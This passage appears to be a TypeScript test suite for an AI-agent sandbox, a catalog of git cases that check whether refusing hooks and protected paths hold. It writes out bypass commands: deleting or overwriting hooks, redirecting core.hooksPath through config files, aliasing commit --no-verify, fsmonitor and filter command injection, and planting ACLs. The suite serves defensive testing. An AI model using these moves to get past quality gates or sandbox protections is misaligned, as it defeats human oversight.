        "git config filter.x.clean 'touch MARK; cat'; echo '* filter=x' > .gitattributes; git add .gitattributes; rm -f .gitattributes",
      ),
      KEEPER,
    ),
    c(
      "keeper-output-config",
      "log --output over .git/config (then any command reads it)",
      runsProgram("git log -1 --format='[core]%n\\tfsmonitor = touch MARK' --output=.git/config; git status"),
      KEEPER,
    ),
    c(
      "keeper-checkout-index",
      "checkout-index --prefix=.git/ (writes a tracked file into .git)",
      runsProgram("git checkout-index --prefix=.git/ -a; git status"),
      KEEPER,
    ),
    c(
      "keeper-git-dir",
      "--git-dir at the remote, then a ref written there",
      push("git --git-dir=.git/sec-remote.git update-ref refs/heads/main HEAD~1"),
      KEEPER,
    ),
    c(
      "keeper-bare-remote",
      "git run inside the remote (a bare repository the keeper owns)",
      push('cd .git/sec-remote.git && git update-ref refs/heads/main "$(git rev-parse main~1)"'),
      KEEPER,
    ),
    c(
      "shell-alias-real",
      "a shell alias calling /usr/bin/git",
      commit("git -c 'alias.ci=!/usr/bin/git commit --no-verify' ci -q -m x"),
    ),
    c(
      "shell-alias-function",
      "a shell alias defining a function around git-core's git",
      commit(`git -c 'alias.ci=!f() { /usr/lib/git-core/git commit -n "$@"; }; f' ci -q -m x`),
    ),
    c(
      "hooks-deleted",
      "deleting the pre-commit hook",
      commit("rm -f .git/hooks/pre-commit; git commit -q -m x"),
      "protected paths: .git/hooks bound read-only over itself (protected_paths, as sbx start sets them)",
    ),
    c(
      "hooks-emptied",
      "overwriting the pre-commit hook with one that passes",
      commit("printf '#!/bin/sh\\nexit 0\\n' > .git/hooks/pre-commit; git commit -q -m x"),
      "protected paths: .git/hooks bound read-only over itself (protected_paths, as sbx start sets them)",
    ),
    c(
      "hooks-renamed",
      "moving .git/hooks aside and making a new one",
      commit(
        "mv .git/hooks .git/hooks-aside && mkdir .git/hooks; git commit -q -m x; [ -d .git/hooks-aside ] && rmdir .git/hooks && mv .git/hooks-aside .git/hooks",
      ),
      "protected paths: .git/hooks bound read-only over itself (protected_paths, as sbx start sets them)",
    ),
    c(
      "gitconfig-file",
      "core.hooksPath written straight into ~/.gitconfig",
      commit(
        "printf '[core]\\n\\thooksPath = /tmp/sec/nohooks\\n' >> ~/.gitconfig; git commit -q -m x; /usr/bin/git config --global --unset-all core.hooksPath",
      ),
      `${GUARD}: with .git/hooks protected, the hooks that run must be protected too, whatever config file names them`,
    ),
    c(
      "local-config-file",
      "core.hooksPath written straight into .git/config",
      commit("printf '[core]\\n\\thooksPath = /tmp/sec/nohooks\\n' >> .git/config; git commit -q -m x"),
      `${GUARD}: with .git/hooks protected, the hooks that run must be protected too, whatever config file names them`,
    ),
    c(
      "included-config",
      "core.hooksPath in a file that ~/.gitconfig includes",
      commit(
        "printf '[core]\\n\\thooksPath = /tmp/sec/nohooks\\n' > /tmp/sec/inc.cfg; printf '[include]\\n\\tpath = /tmp/sec/inc.cfg\\n' >> ~/.gitconfig; git commit -q -m x; /usr/bin/git config --global --unset-all include.path",
      ),
      `${GUARD}: with .git/hooks protected, the hooks that run must be protected too, whatever config file names them`,
    ),
    c(
      "hooks-path-merge",
      "a merge with core.hooksPath in ~/.gitconfig (pre-merge-commit skipped)",
      `cd "$REPO" && before=$(/usr/bin/git rev-parse HEAD); printf '[core]\\n\\thooksPath = /tmp/sec/nohooks\\n' >> ~/.gitconfig; git merge -q --no-ff -m m side >/tmp/sec/git.out 2>&1; after=$(/usr/bin/git rev-parse HEAD); /usr/bin/git config --global --unset-all core.hooksPath; git reset -q --hard "$before"; [ "$before" != "$after" ] && echo "ESCAPED a merge commit past the failing hook" || echo "BLOCKED $(grep -m1 -oE 'agent-sandbox: .*|hook.*' /tmp/sec/git.out | head -c 150)"`,
    ),
  ];
}

/**
 * The git cases' repository, under the agent's home where `sbx start` puts one (relative to /home/agent):
 * its `.git/hooks` is made read-only through the project's protected_paths, as `sbx start` does by default.
 */
export const GIT_REPO = "workspace/sec/repo";

/** A hook that refuses everything (a quality gate that fails). */
const REFUSING_HOOK = '#!/bin/sh\necho "hook: refused by the quality gate" >&2\nexit 1\n';

/** A pre-push hook that refuses while /tmp/sec/refuse-push exists. */
const REFUSING_PUSH_HOOK =
  '#!/bin/sh\n[ -e /tmp/sec/refuse-push ] || exit 0\necho "hook: refused by the quality gate" >&2\nexit 1\n';

const shellWord = (text: string) => `'${text.replace(/'/g, "'\\''")}'`;

/** Python that gives the agent (uid 1000) rwx on .git/refs/heads by an access and a default ACL. */
const PLANT_ACLS = [
  "import os, struct",
  "entry = lambda tag, perm, uid=0xFFFFFFFF: struct.pack('<HHI', tag, perm, uid)",
  "acl = struct.pack('<I', 2) + entry(1, 7) + entry(2, 7, 1000) + entry(4, 5) + entry(0x10, 7) + entry(0x20, 5)",
  "for name in ('system.posix_acl_access', 'system.posix_acl_default'): os.setxattr('.git/refs/heads', name, acl)",
].join("\n");

/**
 * Makes {@link GIT_REPO} with pre-commit and pre-merge-commit hooks that refuse everything: run once per
 * sandbox as the agent, before its hooks are protected (then the keeper keeps it). main has two commits,
 * pushed to a bare remote inside .git (the keeper's once kept, so the agent reaches it only through git, as
 * it would a real remote); `side` branches off the first (for merges), `ahead` is one commit past main (a
 * push that fast-forwards).
 */
export function gitRepoScript(): string {
  return [
    "set -e",
    `base="$HOME/${GIT_REPO.slice(0, GIT_REPO.lastIndexOf("/"))}"`,
    `rm -rf "$base" && mkdir -p "$base" && cd "$base" && /usr/bin/git init -q -b main repo && cd repo && /usr/bin/git init -q --bare -b main .git/sec-remote.git`,
    `/usr/bin/git config user.email agent@sandbox.test && /usr/bin/git config user.name agent && echo 0 > f && /usr/bin/git add f && /usr/bin/git commit -q -m init`,
    `/usr/bin/git checkout -q -b side && echo s > side.txt && /usr/bin/git add side.txt && /usr/bin/git commit -q -m side && /usr/bin/git checkout -q main`,
    `echo 1 >> f && /usr/bin/git commit -q -am second && /usr/bin/git branch ahead && /usr/bin/git checkout -q ahead && echo a >> f && /usr/bin/git commit -q -am ahead && /usr/bin/git checkout -q main`,
    `/usr/bin/git remote add origin .git/sec-remote.git && /usr/bin/git push -q origin main`,
    // ACLs the agent plants before its repository is kept (the acl-planted case): itself rwx on refs/heads
    // and, by default, on whatever is made there later.
    `python3 -c ${shellWord(PLANT_ACLS)}`,
    `for h in pre-commit pre-merge-commit; do printf '%s' ${shellWord(REFUSING_HOOK)} > .git/hooks/$h && chmod +x .git/hooks/$h; done`,
    // pre-push refuses while /tmp/sec/refuse-push exists (the push-no-verify case), so the other cases can push.
    `printf '%s' ${shellWord(REFUSING_PUSH_HOOK)} > .git/hooks/pre-push && chmod +x .git/hooks/pre-push`,
  ].join("\n");
}

/** The whole in-sandbox table. */
export function sandboxCases(): SandboxCase[] {
  return [
    ...egressCases(),
    ...privilegeCases(),
    ...exhaustionCases(),
    ...gitCases(),
    ...listenerCases(),
    ...symlinkCases(),
  ];
}

const PARALLEL = 24;

/** The script that sets up the probes and the git repository, then runs `cases`, one `@@<id> <verdict>` line each. */
export function caseScript(cases: readonly SandboxCase[], probe: string): string {
  const setup = [
    "set +e",
    "mkdir -p /tmp/sec && cd /tmp/sec",
    `cat > /tmp/sec/probe.py <<'PROBE_PY'\n${probe}\nPROBE_PY`,
    "mkdir -p /tmp/sec/nohooks",
    // cgroup v2 or v1 (this host's engine may use either).
    `cgfile() { if [ -f /sys/fs/cgroup/cgroup.controllers ]; then echo "/sys/fs/cgroup/$1"; else echo "/sys/fs/cgroup/$2"; fi; }`,
    `cgread() { cat "$(cgfile "$1" "$2")" 2>/dev/null; }`,
    `cpu_usec() { if [ -f /sys/fs/cgroup/cgroup.controllers ]; then awk '/^usage_usec/ {print $2}' /sys/fs/cgroup/cpu.stat; else echo $(( $(cat /sys/fs/cgroup/cpuacct/cpuacct.usage) / 1000 )); fi; }`,
  ];
  if (cases.some((c) => c.cls === "git" || c.cls === "symlink"))
    setup.push(
      `printf '%s' ${shellWord(REFUSING_HOOK)} > /tmp/sec/pre-commit && chmod +x /tmp/sec/pre-commit`,
      `export REPO="$HOME/${GIT_REPO}" REMOTE="$HOME/${GIT_REPO}/.git/sec-remote.git"`,
    );
  if (cases.some((c) => c.cls === "listener")) setup.push(LISTENER_SETUP);
  const forkServer = cases.some((c) => c.script.includes("sec_py "));
  if (forkServer) setup.push(FORK_SERVER_START);
  let parallel = 0;
  const body = cases.map((c, i) => {
    const fn = `case_${i}() {\n${c.script}\n}`;
    const run = `v=$(cd /tmp/sec && case_${i} 2>/dev/null | grep -E '^(BLOCKED|ESCAPED)' | tail -1); printf '@@%s %s\\n' '${c.id}' "\${v:-INCONCLUSIVE no verdict}"`;
    if (!c.parallel) return `${fn}\n${run}`;
    // At most PARALLEL probes at once: a hundred Pythons at a time would not fit in the sandbox's memory.
    parallel += 1;
    return `${fn}\n( ${run} ) &${parallel % PARALLEL === 0 ? "\nwait" : ""}`;
  });
  return [...setup, ...body, "wait", ...(forkServer ? [FORK_SERVER_STOP] : [])].join("\n");
}

const FORK_SERVER = readFileSync(path.join(import.meta.dirname, "forkserver.py"), "utf8");

/**
 * The probes' fork server (forkserver.py), started outside the script's jobs (its `wait`s would wait for
 * it), and `sec_py <script> <args...>`, a probe run by it: its output, or nothing (no verdict, so
 * inconclusive) when the server does not answer, which the setup line names.
 */
const FORK_SERVER_START = [
  `cat > /tmp/sec/forkserver.py <<'FORK_SERVER_PY'\n${FORK_SERVER}\nFORK_SERVER_PY`,
  `sec_run=/tmp/sec/forkserver.$$`,
  `( python3 -I -S /tmp/sec/forkserver.py "$sec_run.port" </dev/null >"$sec_run.log" 2>&1 & echo $! >"$sec_run.pid" )`,
  `for _ in $(seq 1 1200); do [ -s "$sec_run.port" ] && break; sleep 0.1; done`,
  `SEC_PY_PORT=$(cat "$sec_run.port" 2>/dev/null) || echo "@@setup the probes' fork server did not start: $(tail -3 "$sec_run.log")"`,
  `sec_py() { exec 3<>"/dev/tcp/127.0.0.1/$SEC_PY_PORT" || return 1; printf '%s\\0' "$PWD" "$#" "$@" >&3; cat <&3; exec 3<&-; }`,
].join("\n");
const FORK_SERVER_STOP = `kill "$(cat "$sec_run.pid")" 2>/dev/null`;

export type Outcome = "blocked" | "escaped" | "inconclusive";

/** Verdicts by case id, from the script's output. */
export function parseVerdicts(stdout: string): Map<string, { outcome: Outcome; detail: string }> {
  const verdicts = new Map<string, { outcome: Outcome; detail: string }>();
  for (const line of stdout.split("\n")) {
    const match = /^@@(\S+) (BLOCKED|ESCAPED|INCONCLUSIVE) ?(.*)$/.exec(line);
    if (match)
      verdicts.set(match[1]!, { outcome: match[2]!.toLowerCase() as Outcome, detail: match[3] ?? "" });
  }
  return verdicts;
}
